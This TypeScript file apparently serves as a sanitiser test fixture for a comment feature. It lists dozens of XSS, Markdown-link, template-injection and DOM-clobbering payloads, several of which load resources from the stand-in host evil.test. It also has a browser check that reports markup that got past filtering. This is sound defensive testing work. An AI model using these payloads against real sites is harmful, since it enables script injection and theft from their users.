// What people have tried in comment fields. Whoever gets any of it to run sets
// the global `owned`, opens a dialog, or loads something from evil.test.

const run = 'window.owned=1'

export const texts: string[] = [
  `<script>${run}</script>`,
  `<SCRIPT SRC=https://evil.test/x.js></SCRIPT>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<img src=x onerror=${run}>`,
  `<img src="https://evil.test/pixel.gif">`,
  `<img/src='x'/onerror='alert(1)'>`,
  `<svg onload=${run}></svg>`,
  `<svg><script href="https://evil.test/x.js"/></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${run}"><text x=20 y=20>click</text></a></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<iframe srcdoc="<script>parent.owned=1</script>"></iframe>`,
  `<iframe src="javascript:parent.owned=1"></iframe>`,
  `<object data="javascript:${run}"></object><embed src="https://evil.test/x.swf">`,
  `<body onload=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<details open ontoggle=${run}>x</details>`,
  `<video><source onerror=${run}></video><audio src=x onerror=${run}>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<style>@import 'https://evil.test/x.css'; *{color:red}</style>`,
  `<link rel=stylesheet href=https://evil.test/x.css>`,
  `<meta http-equiv=refresh content="0;url=https://evil.test/">`,
  `<base href="https://evil.test/">`,
  `<form action="https://evil.test/"><button formaction="javascript:${run}">x</button></form>`,
  `<template><script>${run}</script></template><slot name=x onslotchange=${run}></slot>`,
  `<p style="position:fixed;inset:0;background:url(https://evil.test/x)">x</p>`,
  `<a href="javascript:${run}" onclick="${run}">raw link</a>`,
  `[link](javascript:${run})`,
  `[link](JaVaScRiPt:${run})`,
  `[link](java\tscript:${run})`,
  `[link](&#106;avascript:${run})`,
  `[link](\\javascript:${run})`,
  `[link](data:text/html,<script>${run}</script>)`,
  `[link](vbscript:msgbox)`,
  `[link](https://example.org/"onmouseover="${run})`,
  `[link](<https://example.org/x y"onfocus=${run} autofocus>)`,
  `![image](https://evil.test/x.png) ![image](javascript:${run})`,
  `[ref]\n\n[ref]: javascript:${run} "title\\" onmouseover=${run}"`,
  `<javascript:${run}> and <https://example.org/?"><script>${run}</script>>`,
  `\`\`\`html"><script>${run}</script>\n</code></pre><script>${run}</script>\n\`\`\``,
  `\`<img src=x onerror=${run}>\` and **<b onclick=${run}>bold</b>**`,
  `&lt;script&gt;${run}&lt;/script&gt; &#60;script&#62;${run}&#60;/script&#62;`,
  `\u202etxet desrever\u202c <\u200bscript>${run}</script>`,
  `{{constructor.constructor('${run}')()}} \${${run}} #{${run}} <%= ${run} %>`,
  `__proto__ [x](https://example.org/#__proto__[owned]=1) %3Cscript%3E${run}%3C/script%3E`,
  `<!--><script>${run}</script>--> <![CDATA[<script>${run}</script>]]>`,
  `<x-foo id="owned"></x-foo><a name=owned><form id=owned name=owned>`,
]

/** At most 60 characters each: the longest name that is taken. */
export const names: string[] = [
  `<script>${run}</script>`,
  `<img src=x onerror=${run}>`,
  `"><svg onload=${run}>`,
  `' onmouseover='${run}`,
  `javascript:${run}`,
  `{{7*7}} \${${run}}`,
]

export const titles: string[] = [
  `</title><script>${run}</script>`,
  `"><img src=x onerror=${run}>`,
  `<svg/onload=${run}>`,
]

/** What in the page got through that must not, by markup alone; runs in the browser. */
export function intruders(root: Element | ShadowRoot): string[] {
  const found: string[] = []
  const active = 'script, iframe, frame, object, embed, img, image, video, audio, source, style, link, meta, base, math, template, slot, marquee, foreignObject, animate'
  for (const el of root.querySelectorAll(active)) found.push(el.outerHTML)
  const body = new Set('P BR EM STRONG DEL CODE PRE BLOCKQUOTE UL OL LI A MARK'.split(' '))
  for (const el of root.querySelectorAll('.body > *, .body *, .words *, .preview *')) {
    const ours = el.matches('.words, .body-tools, .body-tools *') || el.closest('form')?.contains(el) && !el.closest('.preview')
    if (!ours && !body.has(el.tagName)) found.push(el.outerHTML)
  }
  for (const el of root.querySelectorAll('*')) {
    for (const { name, value } of el.attributes) {
      if (name.startsWith('on') || name === 'srcdoc' || name === 'formaction') found.push(`${name}=${value}`)
      if (/^(href|src|action|xlink:href)$/.test(name) && !/^(https?:|mailto:|#|\/)/.test(value)) found.push(`${name}=${value}`)
      if (name === 'id' && value === 'owned') found.push(`id=${value}`)
    }
  }
  return found
}
